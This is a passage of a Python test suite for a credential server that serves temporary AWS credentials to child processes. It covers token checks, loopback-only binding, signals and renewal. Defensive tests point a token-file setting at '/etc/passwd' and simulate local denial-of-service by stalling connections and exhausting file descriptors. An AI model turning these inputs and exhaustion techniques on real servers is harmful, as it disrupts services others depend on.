    names = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_PROFILE",
             "AWS_DEFAULT_PROFILE", "AWS_CREDENTIAL_EXPIRATION", "AWS_LOGIN_EXEC",
             "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE"]
    print(json.dumps({"uri": URI, "token": TOKEN,
                      "env": dict((n, os.environ.get(n)) for n in names),
                      "right": get(), "none": get(token=None), "wrong": get(token=TOKEN[:-1]),
                      "lower": get(token=TOKEN.lower()), "longer": get(token=TOKEN + "x"),
                      "other_path": get(URI.rsplit("/", 1)[0] + "/other"),
                      "query": get(URI + "?x=1")}))
elif mode == "exit":
    print(URI, flush=True)
    sys.exit(int(args[0]))
elif mode == "kill":
    print(URI, flush=True)
    os.kill(os.getpid(), signal.SIGKILL)
elif mode == "signals":
    record = args[0]
    def on(signum, frame):
        note(record, signal.Signals(signum).name)
        if signum == signal.SIGTERM:
            signal.signal(signal.SIGTERM, signal.SIG_DFL)
            os.kill(os.getpid(), signal.SIGTERM)
    for s in (signal.SIGINT, signal.SIGHUP, signal.SIGTERM):
        signal.signal(s, on)
    note(record, "ready %d %s" % (os.getpid(), URI))
    for _ in range(600):
        time.sleep(0.1)
    sys.exit(3)
elif mode == "ctrl-c":
    seen = []
    signal.signal(signal.SIGINT, lambda signum, frame: seen.append(time.time()))
    fd = os.open("/dev/tty", os.O_WRONLY)
    os.write(fd, b"ready> ")
    while not seen:
        time.sleep(0.05)
    time.sleep(1.0)         # a second SIGINT, forwarded, would come within this
    sys.exit(10 + len(seen))
elif mode == "wait":
    note(args[0], "%d %s" % (os.getpid(), URI))
    for _ in range(600):
        if os.path.exists(args[0] + ".go"):
            break
        time.sleep(0.05)
elif mode == "poll":
    seconds, interval, out = float(args[0]), float(args[1]), []
    end = time.time() + seconds
    while time.time() < end:
        asked = time.time()
        status, doc = get()
        out.append([asked, status, doc])
        time.sleep(interval)
    print(json.dumps(out))
'''


BOTOCORE_CHILD = r'''
import json, os, sys, time
import botocore.session
session = botocore.session.get_session()
credentials = session.get_credentials()
client = session.create_client("sts", region_name="us-east-1",
                               endpoint_url=os.environ["AWS_ENDPOINT_URL_STS"],
                               verify=os.environ["AWS_CA_BUNDLE"])
arns, end = [], time.time() + float(sys.argv[1])
while True:
    arns.append(client.get_caller_identity()["Arn"])
    if time.time() > end:
        break
    time.sleep(0.5)
print(json.dumps([credentials.method, sorted(set(arns))]))
'''


def _port_of(uri):
    return urlsplit(uri).port


def _port_closed(port):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=5).close()
    except ConnectionRefusedError:
        return True
    return False


def _port_nobody_is_given():
    """A free port below the kernel's ephemeral range, which no bind to port 0
    and no outgoing connection is given: it stays free while a test stops a
    server on it and starts another (tests run in parallel)."""
    try:
        with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
            low = int(f.read().split()[0])
    except (OSError, ValueError, IndexError):
        low = 32768
    for port in random.sample(range(max(1024, low - 8192), low), 64):
        probe = socket.socket()
        try:
            probe.bind(("127.0.0.1", port))
            return port
        except OSError:
            continue
        finally:
            probe.close()
    raise AssertionError("no free port below %d" % low)


def _listening_sockets(port):
    """(local address, inode) of each TCP socket listening on ``port``
    (/proc/net/tcp, tcp6)."""
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            address, hex_port = fields[1].split(":")
            if int(hex_port, 16) == port and fields[3] == "0A":
                found.append((address, fields[9]))
    return found


def _listening_addresses(port):
    """Local addresses of the TCP sockets listening on ``port``."""
    return [address for address, _ in _listening_sockets(port)]


def _listeners(port):
    """Pids of the processes holding a TCP socket that listens on ``port``.

    Only these can say whether a server stayed: another test's server may
    have been given the same port since (the tests run in parallel)."""
    inodes = set("socket:[%s]" % inode for _, inode in _listening_sockets(port))
    pids = set()
    for pid in filter(str.isdigit, os.listdir("/proc") if inodes else ()):
        try:
            fds = os.listdir("/proc/%s/fd" % pid)
            if any(os.readlink("/proc/%s/fd/%s" % (pid, fd)) in inodes for fd in fds):
                pids.add(int(pid))
        except OSError:
            continue                # gone, or not ours to read
    return pids


class ServerTestCase(LoginTestCase):
    """Profile srv (alice, password configured, so nothing is asked)."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure("srv", username="alice", factor="auto", password=PASSWORD)
        self.child = os.path.join(self.home, "child.py")
        self.write(self.child, SERVER_CHILD)
        self.records = os.path.join(self.home, ".aws-login", "servers")

    def command(self, *words):
        return [sys.executable, SCRIPT, "--profile", "srv", "exec", "--server", "--",
                sys.executable, self.child] + list(words)

    def start(self, *words, **kw):
        """exec --server in a session of its own, no terminal."""
        proc = subprocess.Popen(kw.pop("argv", None) or self.command(*words),
                                env=dict(os.environ), stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                start_new_session=True)
        self.addCleanup(self.finish, proc)
        return proc

    def assert_no_server(self, port):
        """Nothing started by this test listens on ``port`` any more."""
        for pid in _listeners(port):
            try:
                with open("/proc/%d/environ" % pid, "rb") as f:
                    environ = f.read().split(b"\0")
            except OSError:
                continue
            self.assertFalse(("HOME=" + self.home).encode() in environ,
                             "pid %d, started by this test, still listens on %d" % (pid, port))

    def finish(self, proc):
        if proc.poll() is None:
            proc.kill()
        proc.wait()
        for stream in (proc.stdout, proc.stderr):
            stream.close()

    def wait_lines(self, path, count, proc=None, timeout=30):
        def ready():
            return os.path.exists(path) and len(self.read(path).splitlines()) >= count
        self.assertTrue(_wait_for(ready, timeout),
                        proc and proc.poll() is not None and proc.communicate())
        return self.read(path).splitlines()

    def assert_record_gone(self):
        self.assertEqual(os.listdir(self.records) if os.path.isdir(self.records) else [], [])


class ServerTest(ServerTestCase):
    SLOW = True         # waits on real time: the runner starts it first

    def test_the_token_is_checked_and_the_answer_is_the_container_format(self):
        before = sorted(os.listdir(self.home))
        run = self.tool(self.command("probe")[2:], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(run.stderr, "")
        probe = json.loads(run.stdout)
        issued = self.sts.issued[-1]
        self.assertEqual(probe["right"], [200, {
            "AccessKeyId": issued["AccessKeyId"], "SecretAccessKey": issued["SecretAccessKey"],
            "Token": issued["SessionToken"], "Expiration": issued["Expiration"],
            "RoleArn": ADMIN}])
        self.assertRegex(probe["right"][1]["Expiration"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
        for case in ("none", "wrong", "lower", "longer"):
            self.assertEqual(probe[case][0], 403, case)
            self.assertNotIn("AccessKeyId", probe[case][1])
        self.assertEqual(probe["other_path"][0], 404)
        self.assertEqual(probe["query"][0], 200)
        self.assertRegex(probe["uri"], r"^http://127\.0\.0\.1:\d+/credentials$")
        self.assertRegex(probe["token"], r"^[A-Za-z0-9_-]{43}$")
        self.assertEqual(probe["env"].pop("AWS_LOGIN_EXEC"), "srv")
        self.assertEqual(set(probe["env"].values()), {None}, probe["env"])
        self.assertFalse(os.path.exists(self.credentials_file))     # in memory only
        self.assertEqual(os.listdir(os.path.join(self.home, ".aws-login", "cache")),
                         [".srv.lock"])
        self.assertEqual(sorted(os.listdir(self.home)), before)
        self.assert_record_gone()

    def test_keys_profiles_and_other_container_settings_stay_out_of_the_command(self):
        env = {"AWS_ACCESS_KEY_ID": "AKIAOUTER", "AWS_SECRET_ACCESS_KEY": "outer",
               "AWS_SESSION_TOKEN": "outer", "AWS_PROFILE": "srv", "AWS_DEFAULT_PROFILE": "x",
               "AWS_CREDENTIAL_EXPIRATION": "2000-01-01T00:00:00Z",
               "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "/v2/credentials",
               "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE": "/etc/passwd"}
        run = self.tool(self.command("probe")[2:], terminal=False, env=env)
        self.assertEqual(run.code, 0, run)
        probe = json.loads(run.stdout)
        self.assertEqual(probe["env"].pop("AWS_LOGIN_EXEC"), "srv")
        self.assertEqual(set(probe["env"].values()), {None})
        self.assertEqual(probe["right"][0], 200)
        # nested: refused unless asked for, like exec
        code = "import subprocess, sys; sys.exit(subprocess.call(sys.argv[1:]))"
        run = self.tool(["--profile", "srv", "exec", "--server", "--", sys.executable, "-c",
                         code] + self.command("exit", "0"), terminal=False)
        self.assertEqual(run.code, 2, run)
        self.assertIn("already inside `aws_login.py exec` (profile srv)", run.stderr)

    def test_it_listens_on_loopback_only_and_the_token_is_nowhere_else(self):
        proc = self.start("wait", os.path.join(self.home, "w"))
        pid, uri = self.wait_lines(os.path.join(self.home, "w"), 1, proc)[0].split(" ", 1)
        port = _port_of(uri)
        self.assertEqual(_listening_addresses(port), ["0100007F"])
        with open("/proc/%d/environ" % int(pid), "rb") as f:
            token = [v for v in f.read().split(b"\0")
                     if v.startswith(b"AWS_CONTAINER_AUTHORIZATION_TOKEN=")][0].split(b"=", 1)[1]
        for who in (proc.pid, int(pid)):
            with open("/proc/%d/cmdline" % who, "rb") as f:
                self.assertNotIn(token, f.read())
        with open("/proc/%d/environ" % proc.pid, "rb") as f:
            self.assertNotIn(token, f.read())
        for folder, _, files in os.walk(self.home):
            for name in files:
                with open(os.path.join(folder, name), "rb") as f:
                    self.assertNotIn(token, f.read(), os.path.join(folder, name))
        self.write(os.path.join(self.home, "w.go"), "")
        self.assertEqual(proc.wait(30), 0)
        self.assert_no_server(port)

    def test_the_exit_status_passes_through_and_no_server_stays(self):
        for words, status in ((("exit", "0"), 0), (("exit", "42"), 42), (("kill",), 137)):
            proc = self.start(*words)
            out, err = proc.communicate(timeout=60)
            self.assertEqual(proc.returncode, status, err)
            self.assertEqual(err, b"")
            self.assert_no_server(_port_of(out.decode().strip()))
            self.assert_record_gone()
        run = self.tool(["--profile", "srv", "exec", "--server", "--", "no-such-command-here"],
                        terminal=False)
        self.assertEqual(run.code, 127, run)
        self.assertEqual(run.stderr, "aws_login: error: no-such-command-here: command not "
                                     "found\n")
        self.assert_record_gone()

    def test_signals_reach_the_command_once_each(self):
        record = os.path.join(self.home, "signals")
        proc = self.start("signals", record)
        port = _port_of(self.wait_lines(record, 1, proc)[0].split()[2])
        for number, name in enumerate(("SIGHUP", "SIGINT", "SIGHUP"), 2):
            os.kill(proc.pid, getattr(signal, name))
            self.assertEqual(self.wait_lines(record, number, proc)[-1], name)
        self.assertIsNone(proc.poll())
        self.assertFalse(_port_closed(port))
        os.kill(proc.pid, signal.SIGTERM)
        proc.communicate(timeout=30)
        self.assertEqual(proc.returncode, 128 + signal.SIGTERM)
        self.assertEqual(self.read(record).splitlines()[1:], ["SIGHUP", "SIGINT", "SIGHUP",
                                                              "SIGTERM"])
        self.assert_no_server(port)
        self.assert_record_gone()

    def test_ctrl_c_on_the_terminal_reaches_the_command_once(self):
        run = self.tool(self.command("ctrl-c")[2:], [("ready> ", b"\x03")])
        self.assertEqual(run.code, 11, run)       # one SIGINT: the terminal's, not forwarded

    def test_a_killed_exec_leaves_no_server(self):
        started = os.path.join(self.home, "w")
        proc = self.start("wait", started)
        pid, uri = self.wait_lines(started, 1, proc)[0].split(" ", 1)
        self.addCleanup(lambda: _process_state(int(pid)) and os.kill(int(pid), 9))
        self.assertFalse(_port_closed(_port_of(uri)))
        proc.kill()
        proc.wait(30)
        self.assert_no_server(_port_of(uri))
        self.assertIsNotNone(_process_state(int(pid)))      # the command goes on, alone
        os.kill(int(pid), 9)

    @unittest.skipUnless(os.path.exists("/proc/self/limits"), "needs /proc")
    def test_the_server_makes_no_core_dump_and_the_command_gets_the_limit_it_had(self):
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
        if hard != resource.RLIM_INFINITY and hard < 1 << 20:
            self.skipTest("the hard core limit is too low to tell")
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, hard))
        self.addCleanup(resource.setrlimit, resource.RLIMIT_CORE, (soft, hard))
        started = os.path.join(self.home, "w")
        proc = self.start("wait", started)
        pid = int(self.wait_lines(started, 1, proc)[0].split()[0])
        self.assertEqual((_core_soft_limit(proc.pid), _core_soft_limit(pid)),
                         ("0", str(1 << 20)))
        self.write(started + ".go", "")
        self.assertEqual(proc.wait(30), 0)

    def test_status_lists_running_servers_and_ignores_dead_ones(self):
        os.makedirs(self.records, 0o700)
        self.write(os.path.join(self.records, "999999"), "1234 0 srv\n")     # a killed one's
        started = os.path.join(self.home, "w")
        proc = self.start("wait", started)
        port = _port_of(self.wait_lines(started, 1, proc)[0].split(" ", 1)[1])
        self.assertEqual(os.listdir(self.records), [str(proc.pid)])         # swept
        self.assertEqual(os.stat(self.records).st_mode & 0o777, 0o700)
        path = os.path.join(self.records, str(proc.pid))
        self.assertEqual(os.stat(path).st_mode & 0o777, 0o600)
        self.assertRegex(self.read(path), r"^%d \d+ srv\n$" % port)
        rows = dict((row["profile"], row) for row in json.loads(
            self.tool(["status", "--output", "json"], terminal=False).stdout))
        self.assertEqual([(s["pid"], s["port"]) for s in rows["srv"]["servers"]],
                         [(proc.pid, port)])
        text = self.tool(["status"], terminal=False).stdout
        self.assertRegex(text, r"\n\nCredential servers:\nPROFILE +PID +PORT +STARTED\n"
                               r"srv +%d +%d +\d{4}-" % (proc.pid, port))
        self.write(os.path.join(self.records, "999998"), "1234 0 srv\n")
        self.assertEqual(len(json.loads(self.tool(["status", "--output", "json"],
                                                  terminal=False).stdout)[0]["servers"]), 1)
        self.write(started + ".go", "")
        self.assertEqual(proc.wait(30), 0)
        self.assertEqual(os.listdir(self.records), ["999998"])
        self.assertNotIn("Credential servers", self.tool(["status"], terminal=False).stdout)

    def test_keys_in_the_default_profile_would_win_so_exec_refuses(self):
        self.write(self.credentials_file, "[default]\naws_access_key_id = AKIAOTHER\n"
                                          "aws_secret_access_key = other\n")
        run = self.tool(self.command("exit", "0")[2:], terminal=False)
        self.assertEqual(run.code, 3, run)
        self.assertEqual(run.stderr, "aws_login: error: the command would not ask the "
                         "credential server: [default] in %s holds keys, which the AWS CLI "
                         "and SDKs read first; remove them, or run exec without --server\n"
                         % self.credentials_file)
        self.assertEqual(self.sts.requests, [])
        os.unlink(self.credentials_file)
        self.write(os.environ["AWS_CONFIG_FILE"], "[default]\nregion = eu-west-1\n\n"
                   "[profile default]\ncredential_process = other-tool\n")
        run = self.tool(self.command("exit", "0")[2:], terminal=False)
        self.assertEqual(run.code, 3, run)
        self.assertIn("[profile default] in %s sets credential_process"
                      % os.environ["AWS_CONFIG_FILE"], run.stderr)
        self.write(os.environ["AWS_CONFIG_FILE"], "[default]\nregion = eu-west-1\n")
        self.assertEqual(self.tool(self.command("exit", "0")[2:], terminal=False).code, 0)
        # the default profile's own credentials: the same role, said in a warning
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        run = self.tool(["exec", "--server", "--", sys.executable, self.child, "exit", "5"],
                        terminal=False)
        self.assertEqual(run.code, 5, run)
        self.assertEqual(run.stderr, "aws_login: warning: [default] in %s holds keys: the "
                         "command's AWS SDKs use those before asking the credential server\n"
                         % self.credentials_file)

    def test_renewals_across_expiry_without_writing_a_file(self):
        self.sts.clock = lambda: time.time() - 3600 + 8     # credentials live 8 seconds
        self.assert_logged_in(self.tool(["--profile", "srv", "login"], terminal=False),
                              profile="srv")
        before = self.read(self.credentials_file)
        stat = os.stat(self.credentials_file)
        logins = len(self.idp.logins)
        run = self.tool(self.command("poll", "13", "0.1")[2:], terminal=False, timeout=60)
        self.assertEqual(run.code, 0, run)
        answers = json.loads(run.stdout)
        keys = []
        for asked, status, doc in answers:
            self.assertEqual(status, 200, doc)
            expires = aws_login._parse_timestamp(doc["Expiration"]).timestamp()
            # renewed at half their life, never served in their last second
            self.assertGreater(expires - asked, 1.0, "served credentials about to expire")
            if doc["AccessKeyId"] not in keys:
                keys.append(doc["AccessKeyId"])
        self.assertGreaterEqual(len(keys), 3, keys)
        issued = [c["AccessKeyId"] for c in self.sts.issued]
        self.assertEqual(issued[-len(keys):], keys)
        self.assertNotIn(issued[0], keys)           # the login's, too short to take
        self.assertEqual(set(self.idp.logins[logins:]), {("alice", "session")})
        self.assertEqual(self.read(self.credentials_file), before)
        self.assertEqual(os.stat(self.credentials_file).st_mtime_ns, stat.st_mtime_ns)
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "cache", "srv")))

    def test_a_renewal_that_needs_a_person_is_an_error_the_sdk_shows_and_told_once(self):
        self.sts.clock = lambda: time.time() - 3600 + 8
        self.configure("srv", username="alice", factor="auto", password=None)
        run = self.tool(["--profile", "srv", "login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run, profile="srv")
        # after the server's first credentials, the IdP session ends
        self.idp.override = lambda handler: (
            self.idp.expire_sessions() if len(self.sts.issued) >= 2 else None)
        run = self.tool(self.command("poll", "13", "0.4")[2:], timeout=60)
        self.assertEqual(run.code, 0, run)
        answers = json.loads(run.stdout)
        statuses = [status for _, status, _ in answers]
        self.assertEqual(statuses[0], 200)
        self.assertIn(503, statuses)
        first = statuses.index(503)
        self.assertEqual(set(statuses[first:]), {503})
        for asked, status, doc in answers[:first]:
            self.assertGreater(aws_login._parse_timestamp(doc["Expiration"]).timestamp(), asked)
        error = answers[-1][2]
        self.assertEqual(error["Code"], "InteractionRequired")
        self.assertIn("no password is stored", error["Message"])
        self.assertEqual(len(self.sts.issued), 2)
        self.assertEqual(run.tty.count("aws_login: the credential server of profile srv cannot "
                                       "renew the credentials: the IdP session of alice@"), 1,
                         run.tty)
        self.assertEqual(run.tty.count("\n"), 1, run.tty)

    def test_botocore_takes_the_server_and_renews_through_it(self):
        try:
            import botocore.session     # noqa: F401
        except ImportError:
            self.skipTest("botocore is not importable by %s" % sys.executable)
        self.sts.clock = lambda: time.time() - 3600 + 8
        self.write(self.child, BOTOCORE_CHILD)
        run = self.tool(self.command("10")[2:], terminal=False, timeout=90)
        self.assertEqual(run.code, 0, run)
        method, arns = json.loads(run.stdout.splitlines()[-1])
        self.assertEqual((method, arns), ("container-role",
                                          ["arn:aws:sts::%s:assumed-role/Admin/alice"
                                           % ACCOUNT_A]))
        signed = [r["headers"]["Authorization"].split("Credential=")[1].split("/")[0]
                  for r in self.sts.requests if r["form"].get("Action") == "GetCallerIdentity"]
        self.assertGreaterEqual(len(set(signed)), 2, "botocore never renewed")
        self.assertTrue(set(signed) <= set(c["AccessKeyId"] for c in self.sts.issued))


class ServeTest(ServerTestCase):
    def serve(self, *args):
        proc = self.start(argv=[sys.executable, SCRIPT, "--profile", "srv", "serve"]
                          + list(args))
        lines = []

        def read():
            for _ in range(2):
                lines.append(proc.stdout.readline().decode())
        reader = threading.Thread(target=read)
        reader.daemon = True
        reader.start()
        reader.join(30)
        self.assertEqual(len(lines), 2, proc.poll() is not None and proc.communicate())
        exports = dict(re.match(r"^export (\w+)=(\S+)\n$", line).groups() for line in lines)
        self.assertEqual(sorted(exports), ["AWS_CONTAINER_AUTHORIZATION_TOKEN",
                                           "AWS_CONTAINER_CREDENTIALS_FULL_URI"])
        return proc, exports["AWS_CONTAINER_CREDENTIALS_FULL_URI"], \
            exports["AWS_CONTAINER_AUTHORIZATION_TOKEN"]

    def get(self, uri, token):
        opener = urllib_request.build_opener(urllib_request.ProxyHandler({}))
        request = urllib_request.Request(uri, headers={"Authorization": token} if token else {})
        try:
            with opener.open(request, timeout=30) as answer:
                return answer.status, json.loads(answer.read().decode())
        except urllib_error.HTTPError as e:
            return e.code, json.loads(e.read().decode())

    def test_serve_prints_the_exports_serves_and_stops(self):
        port = _port_nobody_is_given()
        for stop in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            proc, uri, token = self.serve("--port", str(port))
            self.assertEqual(uri, "http://127.0.0.1:%d/credentials" % port)
            status, doc = self.get(uri, token)
            self.assertEqual((status, doc["AccessKeyId"], doc["RoleArn"]),
                             (200, self.sts.issued[-1]["AccessKeyId"], ADMIN))
            self.assertEqual(self.get(uri, None)[0], 403)
            self.assertEqual(self.get(uri, token + "A")[0], 403)
            self.assertEqual(_listening_addresses(port), ["0100007F"])
            rows = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)
            self.assertEqual([s["port"] for s in rows[0]["servers"]], [port])
            os.kill(proc.pid, stop)
            out, err = proc.communicate(timeout=30)
            self.assertEqual(proc.returncode, 0, err)
            self.assertRegex(err.decode(), r"^Serving the credentials of profile srv on "
                             r"127\.0\.0\.1:%d \(pid %d\) until Ctrl-C\. The token is a secret"
                             % (port, proc.pid))
            self.assertEqual(len(err.splitlines()), 1)
            self.assert_no_server(port)
            self.assert_record_gone()
        self.assertEqual(len(self.sts.issued), 3)

    def test_a_port_in_use_is_a_usage_error(self):
        proc, uri, token = self.serve()
        run = self.tool(["--profile", "srv", "serve", "--port", str(_port_of(uri))],
                        terminal=False)
        self.assertEqual(run.code, 2, run)
        self.assertRegex(run.stderr, r"^aws_login: error: cannot listen on 127\.0\.0\.1:%d: "
                                     % _port_of(uri))
        self.assertEqual(run.stdout, "")
        for bad in ("-1", "65536"):
            self.assertEqual(self.tool(["--profile", "srv", "serve", "--port", bad],
                                       terminal=False).code, 2)
        self.assertEqual(self.get(uri, token)[0], 200)
        self.assertIn("The token is a secret", self.tool(["serve", "--help"],
                                                           terminal=False).stdout)


class ServedCredentialsTest(LoginTestCase):
    """The server's renewals in this process, its wall clock in the test's hands."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure("srv", username="alice", factor="auto", password=PASSWORD)
        self.now = [time.time()]
        self.told = []
        self.source = aws_login._ServedCredentials("srv", clock=lambda: self.now[0],
                                                   tell=self.told.append)

    def test_renews_at_renewal_time_and_serves_in_between(self):
        self.source.renew()
        first = self.sts.issued[-1]["AccessKeyId"]
        expires = self.source.credentials.expires_at.timestamp()
        self.assertEqual(self.source.next_at,
                         aws_login._RenewalSchedule.renewal_time(self.now[0], expires))
        self.assertEqual(self.source.step(), aws_login._RenewalSchedule.SLICE)
        self.now[0] = self.source.next_at - 1
        self.assertEqual(self.source.step(), 1)
        self.assertEqual(self.source.current()[0].access_key_id, first)
        self.now[0] += 1
        self.assertGreater(self.source.step(), 0)
        self.assertEqual(len(self.sts.issued), 2)
        self.assertEqual(self.source.current(), (self.source.credentials, ADMIN))
        self.assertNotEqual(self.source.credentials.access_key_id, first)
        self.assertFalse(os.path.exists(self.credentials_file))

    def test_fresh_stored_credentials_are_taken_not_renewed(self):
        self.assert_logged_in(self.tool(["--profile", "srv", "login"], terminal=False),
                              profile="srv")
        self.source.renew()
        self.assertEqual(len(self.sts.issued), 1)
        self.assertEqual(self.source.credentials.access_key_id,
                         self.sts.issued[0]["AccessKeyId"])
        # under 15 minutes left: not taken
        source = aws_login._ServedCredentials("srv", clock=lambda: self.now[0] + 2701 + 900)
        source.renew()
        self.assertEqual(len(self.sts.issued), 2)
        # another role's are not taken either
        self.source.role_arn = DEV
        self.assertFalse(self.source._take_stored(aws_login.read_profile("srv")))

    def test_a_renewal_that_needs_a_person_backs_off_and_is_told_once(self):
        self.sts.clock = lambda: time.time() - 3600 + 60    # the server's live a minute
        self.source.renew()
        expires = self.source.credentials.expires_at.timestamp()
        self.configure("srv", username="alice", factor="auto", password=None)
        self.idp.expire_sessions()
        self.now[0] = self.source.next_at
        self.assertEqual(self.source.step(), 10)
        self.assertIsInstance(self.source.failure, aws_login.InteractionRequired)
        self.assertEqual(len(self.told), 1)
        self.assertIn("cannot renew the credentials: the IdP session of alice@", self.told[0])
        self.assertNotIn("expired", self.told[0])
        self.assertEqual(self.source.current()[0].expires_at.timestamp(), expires)
        asked = len(self.idp.requests)
        self.assertEqual(self.source.step(), 10)        # backing off: no new try
        self.assertEqual(len(self.idp.requests), asked)
        self.now[0] = expires
        with self.assertRaises(aws_login.InteractionRequired):
            self.source.current(0)
        self.now[0] += 10
        self.assertEqual(self.source.step(), 20)
        self.assertEqual(len(self.told), 1)
        started = time.monotonic()
        with self.assertRaises(aws_login.InteractionRequired):
            self.source.current()                       # no wait while backing off
        self.assertLess(time.monotonic() - started, 1)
        # a person logs in elsewhere: those credentials are served at once
        self.sts.clock = time.time
        self.configure("srv", username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["--profile", "srv", "login"], terminal=False),
                              profile="srv")
        self.assertEqual(self.source.current()[0].access_key_id,
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertIsNone(self.source.failure)

    def test_a_network_failure_is_told_only_once_the_credentials_expired(self):
        self.sts.clock = lambda: time.time() - 3600 + 60
        self.source.renew()
        expires = self.source.credentials.expires_at.timestamp()
        self.idp.override = (503, {"Content-Type": "text/html"}, b"<html>down</html>")
        self.now[0] = self.source.next_at
        self.source.step()
        self.assertEqual(self.told, [])
        self.now[0] = expires + 1
        self.source.step()
        self.assertEqual(len(self.told), 1)
        self.assertIn("(they have expired)", self.told[0])
        self.idp.override = None
        self.sts.clock = time.time
        self.now[0] = self.source.next_at
        self.source.step()
        self.assertIsNone(self.source.failure)
        self.assertEqual(self.source.current()[0].access_key_id,
                         self.sts.issued[-1]["AccessKeyId"])

    def test_what_in_the_default_profile_would_shadow_the_server_is_found(self):
        config = os.environ["AWS_CONFIG_FILE"]
        for option in ("aws_access_key_id", "credential_process", "role_arn",
                       "web_identity_token_file", "sso_session", "sso_start_url"):
            for header in ("default", "profile default"):
                self.write(config, "[%s]\nregion = eu-west-1\n%s = x\n" % (header, option))
                shadow = aws_login._server_shadowed("srv")
                self.assertEqual(shadow, ("[%s] in %s sets %s" % (header, config, option),
                                          False), option)
        self.write(config, "[default]\nregion = eu-west-1\n")
        self.assertIsNone(aws_login._server_shadowed("srv"))
        self.write(self.credentials_file, "[default]\naws_access_key_id = A\n")
        self.assertEqual(aws_login._server_shadowed("srv"),
                         ("[default] in %s holds keys" % self.credentials_file, False))

    def test_the_document_is_the_container_format(self):
        credentials = _fake_credentials()
        self.assertEqual(aws_login._container_credentials(credentials, DEV), {
            "AccessKeyId": credentials.access_key_id,
            "SecretAccessKey": credentials.secret_access_key,
            "Token": credentials.session_token,
            "Expiration": aws_login._format_timestamp(credentials.expires_at),
            "RoleArn": DEV})
        # what the SDKs would use before the server, and its other settings, are taken out
        taken_out = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
                     "AWS_SECURITY_TOKEN", "AWS_CREDENTIAL_EXPIRATION", "AWS_PROFILE",
                     "AWS_DEFAULT_PROFILE", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
                     "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "AWS_WEB_IDENTITY_TOKEN_FILE",
                     "AWS_ROLE_ARN", "AWS_ROLE_SESSION_NAME")
        env = aws_login._server_environment(4242, "tok", "eu-west-1", dict(
            [(name, "x") for name in taken_out] + [("KEEP", "1")]), "p")
        self.assertEqual(env, {"KEEP": "1", "AWS_LOGIN_EXEC": "p",
                               "AWS_CONTAINER_CREDENTIALS_FULL_URI":
                               "http://127.0.0.1:4242/credentials",
                               "AWS_CONTAINER_AUTHORIZATION_TOKEN": "tok",
                               "AWS_REGION": "eu-west-1", "AWS_DEFAULT_REGION": "eu-west-1"})


# A credential server in a process whose descriptors run out: it prints its
# port, then serves until its standard input closes; a line "fill" takes
# every descriptor left, "free" gives them back.
EMFILE_SERVER_CHILD = r'''
import os, resource, sys
sys.path.insert(0, sys.argv[1])
import aws_login
source = aws_login._ServedCredentials("srv")
source.renew()
server = aws_login._credential_server(source, sys.argv[2])
stop = aws_login._serve_in_threads(source, server)
highest = max(int(fd) for fd in os.listdir("/proc/self/fd"))
resource.setrlimit(resource.RLIMIT_NOFILE,
                   (highest + 4, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
print(server.server_address[1], flush=True)
taken = []
for line in iter(sys.stdin.readline, ""):
    if line == "fill\n":
        try:
            while True:
                taken.append(os.open(os.devnull, os.O_RDONLY))
        except OSError:
            pass
    elif line == "free\n":
        while taken:
            os.close(taken.pop())
    print(len(taken), flush=True)
'''


def _cpu_seconds(pid):
    """User and system CPU time of process ``pid`` so far."""
    with open("/proc/%d/stat" % pid, "rb") as f:
        fields = f.read().rsplit(b")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _ask_server(port, token, timeout=10):
    """(status, document) of GET /credentials with ``token``."""
    import http.client
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        connection.request("GET", "/credentials", headers={"Authorization": token})
        answer = connection.getresponse()
        return answer.status, json.loads(answer.read().decode())
    finally:
        connection.close()


def _closed_by_peer(sock):
    """Whether the other end closed ``sock`` (or reset it), without waiting."""
    if not select.select([sock], [], [], 0)[0]:
        return False
    try:
        return sock.recv(1) == b""
    except OSError:
        return True


class ServerLimitsTest(LoginTestCase):
    """What other local users can do to a credential server: connections that
    send nothing, a request sent a byte at a time, descriptors run out.  The
    token holder is answered all the same."""

    TOKEN = "the-token-of-this-test"

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure("srv", username="alice", factor="auto", password=PASSWORD)

    def serve(self):
        source = aws_login._ServedCredentials("srv")
        source.renew()
        server = aws_login._credential_server(source, self.TOKEN)
        stop = aws_login._serve_in_threads(source, server)
        self.addCleanup(aws_login._stop_serving, server, stop, source)
        return server, server.server_address[1]

    def connect(self, port, count=1, wait=True):
        """``count`` connections to ``port``; without ``wait``, connections still
        under way when the server's backlog is full."""
        socks = []
        for _ in range(count):
            sock = socket.socket()
            self.addCleanup(sock.close)
            if wait:
                sock.settimeout(5)
                sock.connect(("127.0.0.1", port))
            else:
                sock.setblocking(False)
